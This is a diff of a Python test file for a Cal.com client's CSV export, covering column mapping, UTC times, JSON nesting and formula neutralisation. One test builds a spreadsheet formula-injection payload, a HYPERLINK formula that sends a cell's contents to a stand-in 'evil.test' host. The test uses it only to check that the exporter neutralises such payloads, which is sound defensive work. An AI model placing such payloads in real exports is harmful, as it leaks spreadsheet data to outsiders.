@@ -1,8 +1,9 @@
-"""Bookings as flat rows: what is in a cell, and what is never in one."""
+"""Models as flat rows: what is in a cell, and what is never in one."""
 
 from __future__ import annotations
 
 import csv
+from datetime import date, datetime
 from pathlib import Path
 from tempfile import TemporaryDirectory
 from typing import Any
@@ -13,8 +14,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec import Raw
 
-from calcom_async.export import CsvSink
-from calcom_async.export.rows import BOOKING_COLUMNS, booking_cells, harmless
+from calcom_async import models
+from calcom_async.export.rows import BOOKING_COLUMNS, cells, columns_of, harmless
+from calcom_async.export.sinks import open_sink
 from calcom_async.models.bookings import Booking
 from calcom_async.wire import decode
 
@@ -44,8 +46,12 @@ WIRE: dict[str, Any] = {
 
 def row(**changes: Any) -> dict[str, str]:
     wire = {name: value for name, value in (WIRE | changes).items() if value is not ...}
-    cells = booking_cells(decode(Booking, msgspec.json.encode(wire)))
-    return dict(zip(BOOKING_COLUMNS, cells, strict=True))
+    return of(Booking, wire)
+
+
+def of(model: type[msgspec.Struct], wire: dict[str, Any]) -> dict[str, str]:
+    columns = columns_of(model)
+    return dict(zip(columns, cells(columns, decode(model, msgspec.json.encode(wire))), strict=True))
 
 
 @pytest.mark.parametrize(
@@ -85,16 +91,16 @@ def test_a_cell(column: str, cell: str) -> None:
 )
 def test_gaps_and_news_keep_the_columns(changes: dict[str, Any]) -> None:
     """Whatever is missing, null or new, a row has every column and the rest of its cells."""
-    cells = row(**changes)
-    assert list(cells) == list(BOOKING_COLUMNS)
-    assert cells["uid"] == "abc"
+    found = row(**changes)
+    assert list(found) == list(BOOKING_COLUMNS)
+    assert found["uid"] == "abc"
 
 
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
 def test_formulas_are_neutralised(first: str) -> None:
     """What a spreadsheet would run gets an apostrophe, in each column whose text others write."""
     evil = f'{first}HYPERLINK("https://evil.test?"&A1)'
-    cells = row(
+    found = row(
         title=evil,
         description=evil,
         location=evil,
@@ -104,9 +110,9 @@ def test_formulas_are_neutralised(first: str) -> None:
         attendees=[{"name": evil, "email": evil, "timeZone": evil, "absent": False}],
         status=evil,
     )
-    columns = [name for name, cell in cells.items() if "HYPERLINK" in cell]
+    columns = [name for name, cell in found.items() if "HYPERLINK" in cell]
     assert len(columns) == 10
-    assert all(cells[name] == "'" + evil for name in columns)
+    assert all(found[name] == "'" + evil for name in columns)
 
 
 @given(st.text())
@@ -121,8 +127,77 @@ def test_harmless_changes_nothing_else(text: str) -> None:
 def test_any_text_survives_a_csv_reader(text: str) -> None:
     """Quotes, commas, line ends and all of Unicode come back from csv.reader as they were."""
     with TemporaryDirectory() as folder:
-        with CsvSink(Path(folder, "a.csv")) as sink:
+        with open_sink(Path(folder, "a.csv")) as sink:
+            sink.begin()
             sink.write([Raw(msgspec.json.encode(WIRE | {"title": text}))])
+            sink.finish()
         with sink.path.open(encoding="utf-8", newline="") as lines:
-            _, cells = csv.reader(lines)
-    assert dict(zip(BOOKING_COLUMNS, cells, strict=True))["title"] == harmless(text)
+            _, found = csv.reader(lines)
+    assert dict(zip(BOOKING_COLUMNS, found, strict=True))["title"] == harmless(text)
+
+
+# --- other models -------------------------------------------------------------------------------------------------
+
+
+class Thing(models.Team, frozen=True, kw_only=True):
+    """A model with a value of every kind."""
+
+    count: int
+    share: float
+    day: date
+    seen_at: datetime
+    tags: list[str]
+    anything: Any = None
+    people: list[models.BookingHost] | None = None
+
+
+THING: dict[str, Any] = {
+    "id": 3, "name": "=A1", "count": -5, "share": 0.5, "day": "2026-05-06", "seenAt": "2026-05-06T12:00:00+02:00",
+    "tags": ["=x", "y"], "metadata": {"a": {"b": [1]}}, "people": [{"id": 1, "displayEmail": "a@cal.test"}],
+}  # fmt: skip
+
+
+def test_other_models_have_their_fields_as_columns() -> None:
+    """A model without columns of its own has its fields, in their order, by their Python names."""
+    assert list(columns_of(models.OutOfOfficeEntry)) == [
+        "id", "uuid", "user_id", "to_user_id", "start", "end", "notes", "reason",
+    ]  # fmt: skip
+    assert columns_of(Booking) is BOOKING_COLUMNS
+
+
+@pytest.mark.parametrize(
+    ("column", "cell"),
+    [
+        ("id", "3"),
+        ("name", "'=A1"),
+        ("slug", ""),
+        ("is_organization", "false"),
+        ("count", "-5"),
+        ("share", "0.5"),
+        ("day", "2026-05-06"),
+        ("seen_at", "2026-05-06T10:00:00.000Z"),
+        ("tags", '["=x","y"]'),
+        ("metadata", '{"a":{"b":[1]}}'),
+        ("anything", ""),
+    ],
+)
+def test_a_cell_of_another_model(column: str, cell: str) -> None:
+    """Plain values are as they are, times in UTC, formulas neutralised, and what is nested is JSON."""
+    assert of(Thing, THING)[column] == cell
+
+
+def test_what_is_nested_is_json_as_cal_com_names_it() -> None:
+    """A list of structs can be read back as the API wrote it."""
+    (person,) = msgspec.json.decode(of(Thing, THING)["people"])
+    assert person["displayEmail"] == "a@cal.test"
+
+
+@pytest.mark.parametrize("anything", ["=1+1", ["=1+1"], {"=1+1": 1}])
+def test_nothing_nested_begins_a_formula(anything: Any) -> None:
+    """JSON in a cell begins with a bracket, and a text that may be anything is neutralised like any other."""
+    assert of(Thing, THING | {"anything": anything})["anything"][0] in "'[{"
+
+
+def test_a_time_without_zone_is_utc() -> None:
+    """The server's times are UTC, also where one says no zone; the machine's zone is not asked."""
+    assert of(Thing, THING | {"seenAt": "2026-05-06T12:00:00"})["seen_at"] == "2026-05-06T12:00:00.000Z"
